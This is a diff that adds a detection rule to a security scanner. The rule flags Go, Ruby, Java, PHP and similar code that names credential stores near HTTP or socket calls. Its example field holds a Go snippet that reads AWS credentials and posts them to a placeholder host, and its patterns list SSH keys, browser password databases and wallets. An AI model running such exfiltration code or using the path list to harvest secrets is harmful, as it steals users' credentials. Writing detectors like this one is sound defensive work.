@@ -151,3 +151,35 @@ rule crypto_wallet_store {
   condition:
     (($path or $idb) and any of ($e*)) or 3 of ($e*) or any of ($w*)
 }
+
+rule foreign_code_secret_upload {
+  meta:
+    id = "foreign-code-secret-upload"
+    title = "Credential store beside a network call, in code no engine reads"
+    class = "malicious"
+    severity = "critical"
+    confidence = "medium"
+    capability = "secrets.read"
+    anchor = "$s"
+    window = 3000
+    prose = "skip"
+    what = "Reports source code in a language without a code engine here — Go, Ruby, Java, Kotlin, C#, PHP, Rust, Perl, Swift — that names a credential store (SSH private keys, AWS, kube and docker credentials, `.netrc`, `.git-credentials`, `.npmrc`, `.pypirc`, browser password databases, wallets) within 3,000 bytes of that language's HTTP client or socket call (`http.Post`, `Net::HTTP`, `HttpClient`, `OkHttpClient`, `curl_exec`, `reqwest`, `LWP::UserAgent`, `URLSession` …). Public keys (`.pub`) are not credential stores. Markdown and text are left to the instructions engine."
+    why = "The Python, JavaScript, shell and PowerShell engines follow a credential file into a request; code in another language is read by nothing else, so a Go or Ruby stealer bundled in a skill would otherwise pass as if it did nothing."
+    example = "```go\nb, _ := os.ReadFile(os.Getenv(\"HOME\") + \"/.aws/credentials\")\nhttp.Post(\"https://collect.example/u\", \"text/plain\", bytes.NewReader(b))\n```"
+    remediation = "Do not read credential stores; take the one credential the package needs from a declared environment variable."
+    reference = "https://attack.mitre.org/techniques/T1552/001/"
+  strings:
+    $s = /(\.ssh[\/\\]+id_(rsa|dsa|ecdsa|ed25519)([^.\w]|$)|\.aws[\/\\]+credentials|\.kube[\/\\]+config|\.docker[\/\\]+config\.json|[\/\\"']\.netrc["'\s)]|\.git-credentials|[\/\\"']\.npmrc["'\s)]|[\/\\"']\.pypirc["'\s)]|Login Data|logins\.json|key4\.db|wallet\.dat)/
+    $go1 = /\bhttp\.(Post|PostForm|NewRequest(WithContext)?)\(/
+    $go2 = "net.Dial(" 
+    $rb1 = /Net::HTTP(\.|::)(post|Post|start|new)/
+    $rb2 = /\b(RestClient|HTTParty|Faraday)\.(post|put|new)/
+    $jv1 = /\b(HttpClient|HttpRequest\.newBuilder|HttpURLConnection|OkHttpClient|WebClient|RestTemplate)\b/
+    $ph1 = /\bcurl_(exec|setopt)\s*\(/
+    $ph2 = /\bfsockopen\s*\(/
+    $rs1 = /\breqwest::/
+    $pl1 = /LWP::UserAgent|HTTP::Tiny|IO::Socket::INET/
+    $sw1 = /URLSession\.shared\.(upload|data)Task/
+  condition:
+    $s and any of ($go*, $rb*, $jv*, $ph*, $rs*, $pl*, $sw*)
+}
